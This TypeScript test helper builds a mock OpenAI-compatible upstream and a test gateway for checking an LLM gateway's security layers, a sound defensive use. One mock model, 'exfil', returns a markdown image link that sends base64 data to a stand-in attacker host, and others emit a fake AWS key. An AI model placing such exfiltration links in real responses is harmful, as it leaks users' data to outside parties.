/**
 * Real parts for gateway tests: a mock OpenAI-compatible upstream on a loopback
 * port whose behaviour is chosen by the model name, and a gateway in front of it.
 */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { pino } from "pino";
import { resolveConfig, type GatewayConfigInput } from "../../src/gateway/config.js";
import { hashKey } from "../../src/gateway/identity.js";
import { createGateway, type Gateway, type GatewayOptions } from "../../src/gateway/server.js";
import { defaultPolicy } from "../../src/policy/load.js";
import type { PolicyInput } from "../../src/policy/schema.js";
import { MemoryEventStore } from "../../src/store/memory.js";
import type { EventStore } from "../../src/store/types.js";

/** A fake AWS access key id in a format the secrets layer knows. */
export const LEAKED_KEY = "AKIAZ3MHQ7WBV2QXLP4N";

export interface MockUpstream {
  readonly url: string;
  /** Bodies of the chat requests received, parsed. */
  readonly requests: Array<Record<string, unknown>>;
  /** Authorization headers received. */
  readonly authorizations: Array<string | undefined>;
  close(): Promise<void>;
}

type Json = Record<string, unknown>;

function lastUserText(body: Json): string {
  const messages = Array.isArray(body.messages) ? (body.messages as Json[]) : [];
  const last = [...messages].reverse().find((m) => m.role === "user");
  return typeof last?.content === "string" ? last.content : "";
}

function completion(model: string, message: Json, finish = "stop"): Json {
  return { id: "chatcmpl-mock", object: "chat.completion", created: 1_700_000_000, model, choices: [{ index: 0, message, finish_reason: finish, logprobs: null }], usage: { prompt_tokens: 5, completion_tokens: 5, total_tokens: 10 } };
}

function chunk(model: string, delta: Json, finish: string | null = null): string {
  return `data: ${JSON.stringify({ id: "chatcmpl-mock", object: "chat.completion.chunk", created: 1_700_000_000, model, choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
}

function pieces(text: string, size: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

/**
 * Models: `echo` (answers "You said: ..."), `tool` (calls get_weather), `leak` (answers with an AWS key in the
 * text), `error-500`, `upstream-401`, `hang` (never answers), `not-json`, `drop` (stream breaks off),
 * `stream-hang` (stream goes silent), `slow-echo` (answers after 1.5 s).
 */
export async function startMockUpstream(): Promise<MockUpstream> {
  const requests: Json[] = [];
  const authorizations: Array<string | undefined> = [];
  const server: Server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      authorizations.push(req.headers.authorization);
      if (req.method === "GET" && req.url === "/v1/models") {
        res.writeHead(200, { "content-type": "application/json" });
        res.end(JSON.stringify({ object: "list", data: ["echo", "tool", "leak", "gpt-4o-mini", "secret-model"].map((id) => ({ id, object: "model" })) }));
        return;
      }
      const body = JSON.parse(Buffer.concat(chunks).toString("utf8") || "{}") as Json;
      requests.push(body);
      const model = String(body.model);
      const stream = body.stream === true;
      const reply = (text: string): void => {
        if (!stream) {
          res.writeHead(200, { "content-type": "application/json" });
          res.end(JSON.stringify(completion(model, { role: "assistant", content: text })));
          return;
        }
        res.writeHead(200, { "content-type": "text/event-stream" });
        res.write(chunk(model, { role: "assistant", content: "" }));
        for (const piece of pieces(text, 3)) res.write(chunk(model, { content: piece }));
        res.write(chunk(model, {}, "stop"));
        res.end("data: [DONE]\n\n");
      };
      switch (model) {
        case "tool": {
          const args = JSON.stringify({ city: "Paris", unit: "celsius" });
          if (!stream) {
            res.writeHead(200, { "content-type": "application/json" });
            res.end(JSON.stringify(completion(model, { role: "assistant", content: null, tool_calls: [{ id: "call_1", type: "function", function: { name: "get_weather", arguments: args } }] }, "tool_calls")));
            return;
          }
          res.writeHead(200, { "content-type": "text/event-stream" });
          res.write(chunk(model, { role: "assistant", content: null, tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "get_weather", arguments: "" } }] }));
          for (const piece of pieces(args, 4)) res.write(chunk(model, { tool_calls: [{ index: 0, function: { arguments: piece } }] }));
          res.write(chunk(model, {}, "tool_calls"));
          res.end("data: [DONE]\n\n");
          return;
        }
        case "exfil":
          return reply(`Here is your summary. ![status](https://collector.evil-analytics.net/p.png?d=${"Zm9vYmFyYmF6cXV4".repeat(3)}) Have a nice day, the launch codes are safe.`);
        case "long":
          return reply(`${"All systems nominal. ".repeat(60)}The secret is ${LEAKED_KEY} and that is all.`);
        case "leak":
          return reply(`Sure. The refunds service uses the access key ${LEAKED_KEY} with the default region. Anything else?`);
        case "error-500":
          res.writeHead(500, { "content-type": "application/json" });
          res.end(JSON.stringify({ error: { message: "model crashed", type: "server_error" } }));
          return;
        case "upstream-401":
          res.writeHead(401, { "content-type": "application/json" });
          res.end(JSON.stringify({ error: { message: "Incorrect API key provided: sk-up***", type: "invalid_request_error", code: "invalid_api_key" } }));
          return;
        case "hang":
          return; // never answers
        case "not-json":
          res.writeHead(200, { "content-type": "text/plain" });
          res.end("<html>gateway timeout</html>");
          return;
        case "drop":
          res.writeHead(200, { "content-type": "text/event-stream" });
          res.write(chunk(model, { role: "assistant", content: "" }));
          res.write(chunk(model, { content: "The first part of the answer, " }));
          setTimeout(() => res.destroy(), 20);
          return;
        case "stream-hang":
          res.writeHead(200, { "content-type": "text/event-stream" });
          res.write(chunk(model, { role: "assistant", content: "" }));
          res.write(chunk(model, { content: "Starting the answer and then " }));
          return; // silence
        case "slow-echo":
          setTimeout(() => reply(`You said: ${lastUserText(body)}`), 1_500);
          return;
        default:
          return reply(`You said: ${lastUserText(body)}`);
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/v1`,
    requests,
    authorizations,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

export const CLIENT_KEY = "bwk_test_client_key_0123456789abcdef";
export const LIMITED_KEY = "bwk_test_limited_key_0123456789abcdef";
export const ADMIN_KEY = "bwk_test_admin_key_0123456789abcdef";

/** A configuration with two principals: `app` (all models) and `intern` (gpt-4o-mini only, 100 tokens). */
export function testConfig(upstreamUrl: string, overrides: Partial<GatewayConfigInput> = {}): GatewayConfigInput {
  return {
    version: 1,
    listen: { host: "127.0.0.1", port: 0 },
    upstream: { url: upstreamUrl, apiKeyEnv: "TEST_UPSTREAM_KEY", headersTimeoutMs: 1_000, bodyTimeoutMs: 1_000, retries: 1, retryBackoffMs: 10 },
    store: { url: "memory", flushIntervalMs: 10 },
    roles: { full: { models: ["*"] }, limited: { models: ["gpt-4o-mini"], maxTokens: 100 } },
    principals: { app: { roles: ["full"] }, intern: { roles: ["limited"] } },
    keys: [
      { id: "app-key", principal: "app", hash: hashKey(CLIENT_KEY) },
      { id: "intern-key", principal: "intern", hash: hashKey(LIMITED_KEY) },
    ],
    admin: { keys: [{ id: "root", hash: hashKey(ADMIN_KEY) }] },
    log: { level: "silent" },
    ...overrides,
  };
}

/**
 * The full default policy with every layer's time budget raised: these tests are about the gateway's behaviour,
 * and on a loaded two-core machine a layer can overrun its normal budget, which (rightly) fails closed.
 */
export const TEST_POLICY: PolicyInput = {
  version: 1,
  layers: Object.fromEntries(Object.keys(defaultPolicy().policy.layers).map((name) => [name, { budgetMs: 10_000 }])) as PolicyInput["layers"],
};

export const UPSTREAM_SECRET = "sk-upstream-secret-never-leaves";

export interface TestGateway {
  readonly gateway: Gateway;
  readonly url: string;
  readonly store: EventStore;
  close(): Promise<void>;
}

export async function startGateway(config: GatewayConfigInput, options: { store?: EventStore } & Partial<Omit<GatewayOptions, "loaded" | "store">> = {}): Promise<TestGateway> {
  const loaded = resolveConfig(config, "test", process.cwd());
  const store = options.store ?? new MemoryEventStore();
  await store.init();
  const gateway = await createGateway({ defaultPolicy: TEST_POLICY, ...options, loaded, store, env: { TEST_UPSTREAM_KEY: UPSTREAM_SECRET }, logger: options.logger ?? pino({ level: "silent" }) });
  const url = await gateway.listen(0);
  return { gateway, url, store, close: async () => void (await gateway.shutdown("test done")) };
}

export async function post(url: string, body: unknown, key: string | null = CLIENT_KEY, headers: Record<string, string> = {}): Promise<{ status: number; headers: Headers; json: Json; text: string }> {
  const response = await fetch(url, {
    method: "POST",
    headers: { "content-type": "application/json", ...(key ? { authorization: `Bearer ${key}` } : {}), ...headers },
    body: typeof body === "string" || body instanceof Uint8Array ? body : JSON.stringify(body),
  });
  const text = await response.text();
  let json: Json = {};
  try {
    json = JSON.parse(text) as Json;
  } catch {
    // not JSON: tests look at text
  }
  return { status: response.status, headers: response.headers, json, text };
}

/** Waits until the writer has written everything waiting. */
export async function flushed(gateway: Gateway): Promise<void> {
  await gateway.writer.flush(5_000);
}
